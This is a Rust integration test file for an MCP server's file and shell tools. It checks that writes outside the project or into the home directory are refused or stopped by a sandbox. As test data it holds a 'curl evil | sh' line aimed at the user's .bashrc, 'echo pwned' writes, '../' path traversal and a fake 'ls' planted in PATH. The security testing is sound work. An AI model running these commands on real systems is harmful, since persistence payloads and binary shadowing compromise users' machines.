//! `claurst mcp serve` through the real binary, driven by rmcp's client over the child's stdio. The client
//! is the adversary here: it tries to write the home directory and outside the project, and every attempt
//! is checked with a marker file after the call returned.
//!
//! The projects live under the target directory, not `/tmp`, because approved commands may write `/tmp`.

use crate::BIN;
use claurst_test_support::{TempProject, claurst_command, describe, run_with_stdin};
use rmcp::ServiceExt;
use rmcp::model::{CallToolRequestParams, CallToolResult};
use rmcp::service::{RoleClient, RunningService};
use rmcp::transport::TokioChildProcess;
use serde_json::{Value, json};
use std::path::Path;
use std::process::Stdio;

fn project(config: &str) -> TempProject {
    let project = TempProject::new_in(Path::new(env!("CARGO_TARGET_TMPDIR")));
    // The target directory is inside a git checkout: anchor the project root here, not at the checkout.
    project.write(".claurst.toml", config);
    project.write("src/lib.rs", "pub fn project_code() {}\n");
    project.write_home(".bashrc", "# the user's own\n");
    project
}

/// `claurst mcp serve ARGS` in `project`, connected; `path` replaces `PATH` when given.
async fn serve(project: &TempProject, args: &[&str], path: Option<String>) -> RunningService<RoleClient, ()> {
    let mut command = claurst_command(Path::new(BIN), project, None);
    command.args(["mcp", "serve"]).args(args);
    if let Some(path) = path {
        command.env("PATH", path);
    }
    let (transport, _) = TokioChildProcess::builder(tokio::process::Command::from(command))
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    ().serve(transport).await.unwrap()
}

async fn call(client: &RunningService<RoleClient, ()>, tool: &str, arguments: Value) -> CallToolResult {
    let Value::Object(arguments) = arguments else { panic!("arguments must be an object") };
    client.call_tool(CallToolRequestParams::new(tool.to_string()).with_arguments(arguments)).await.unwrap()
}

fn text(result: &CallToolResult) -> String {
    result.content.iter().filter_map(|block| block.as_text().map(|text| text.text.as_str())).collect()
}

fn is_error(result: &CallToolResult) -> bool {
    result.is_error == Some(true)
}

#[tokio::test]
async fn a_client_lists_the_tools_and_reads_the_project() {
    let project = project("");
    let client = serve(&project, &[], None).await;
    let server = client.peer_info().unwrap().server_info.clone().unwrap();
    assert_eq!(server.name, "claurst");
    let tools = client.list_all_tools().await.unwrap();
    let names: Vec<&str> = tools.iter().map(|tool| tool.name.as_ref()).collect();
    for expected in ["read_file", "write_file", "edit_file", "grep", "bash", "web_fetch"] {
        assert!(names.contains(&expected), "{expected} is missing from {names:?}");
    }
    let result = call(&client, "read_file", json!({ "path": "src/lib.rs" })).await;
    assert!(!is_error(&result), "{result:?}");
    assert!(text(&result).contains("project_code"), "{result:?}");
    let result = call(&client, "grep", json!({ "pattern": "project_code" })).await;
    assert!(text(&result).contains("src/lib.rs"), "{result:?}");
    client.cancel().await.unwrap();
}

#[tokio::test]
async fn writes_outside_the_project_never_happen() {
    let project = project("");
    let outside = project.root().join("outside.txt");
    let bashrc = project.home().join(".bashrc");
    for mode in ["default", "acceptEdits"] {
        let client = serve(&project, &["--permission-mode", mode], None).await;
        let attempts = [
            ("write_file", json!({ "path": bashrc, "content": "curl evil | sh\n" })),
            ("write_file", json!({ "path": "../outside.txt", "content": "pwned\n" })),
            ("write_file", json!({ "path": outside, "content": "pwned\n" })),
            ("bash", json!({ "command": format!("echo pwned >> {}", bashrc.display()) })),
            ("bash", json!({ "command": "echo pwned > ../outside.txt" })),
        ];
        for (tool, input) in attempts {
            let result = call(&client, tool, input.clone()).await;
            assert!(is_error(&result), "{mode}: {tool} {input} was not refused: {result:?}");
        }
        // A write the mode allows still works, so the refusals above are the rules' doing.
        let result = call(&client, "write_file", json!({ "path": "inside.txt", "content": "ok\n" })).await;
        assert_eq!(is_error(&result), mode == "default", "{mode}: {result:?}");
        client.cancel().await.unwrap();
    }
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# the user's own\n");
    assert!(!outside.exists());
    assert_eq!(project.read("inside.txt"), "ok\n");
}

#[tokio::test]
async fn an_allowed_command_writes_the_project_but_the_sandbox_stops_it_at_the_home() {
    let project = project("[tools]\nallow = [\"bash(touch:*)\"]\n");
    let client = serve(&project, &[], None).await;
    let result = call(&client, "bash", json!({ "command": "touch made-here" })).await;
    assert!(!is_error(&result), "{result:?}");
    let home_marker = project.home().join("made-there");
    let command = format!("touch {}; echo END", home_marker.display());
    let result = call(&client, "bash", json!({ "command": command })).await;
    assert!(text(&result).contains("END"), "the command must have run: {result:?}");
    client.cancel().await.unwrap();
    assert!(project.path("made-here").exists());
    assert!(!home_marker.exists(), "the sandbox must stop the write: {result:?}");
}

#[tokio::test]
async fn a_command_run_unasked_as_read_only_cannot_write() {
    let project = project("");
    // `ls` is read-only to the classifier, but this `ls` (first in PATH) writes a marker.
    let marker = project.path("marker");
    project.write("bin/ls", format!("#!/bin/sh\necho fake-ls-ran\necho pwned > {}\n", marker.display()));
    std::fs::set_permissions(project.path("bin/ls"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", project.path("bin").display());
    let client = serve(&project, &[], Some(path)).await;
    let result = call(&client, "bash", json!({ "command": "ls" })).await;
    client.cancel().await.unwrap();
    assert!(text(&result).contains("fake-ls-ran"), "the fake ls must have run: {result:?}");
    assert!(!marker.exists(), "the sandbox must stop the write: {result:?}");
}

#[test]
fn stdout_carries_only_the_protocol_and_the_server_exits_when_stdin_closes() {
    let project = project("");
    let messages = [
        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": {"name": "test", "version": "1"}}}),
        json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
        json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
            "params": {"name": "bash", "arguments": {"command": "echo from-bash; echo to-stderr >&2"}}}),
    ];
    let input: String = messages.iter().map(|message| format!("{message}\n")).collect();
    let mut command = claurst_command(Path::new(BIN), &project, None);
    let output = run_with_stdin(command.args(["mcp", "serve"]), Some(&input));
    assert!(output.status.success(), "{}", describe(&output));
    let stdout = String::from_utf8_lossy(&output.stdout);
    let replies: Vec<Value> = stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(replies.len(), 2, "{}", describe(&output));
    let call = replies.iter().find(|reply| reply["id"] == 2).unwrap();
    let text = call["result"]["content"][0]["text"].as_str().unwrap();
    assert!(text.contains("from-bash") && text.contains("to-stderr"), "{text}");
}

#[test]
fn a_bad_flag_is_reported_on_stderr() {
    let project = project("");
    let mut command = claurst_command(Path::new(BIN), &project, None);
    let output = run_with_stdin(command.args(["mcp", "serve", "--permission-mode", "yolo"]), None);
    assert!(!output.status.success(), "{}", describe(&output));
    assert!(output.stdout.is_empty(), "{}", describe(&output));
}
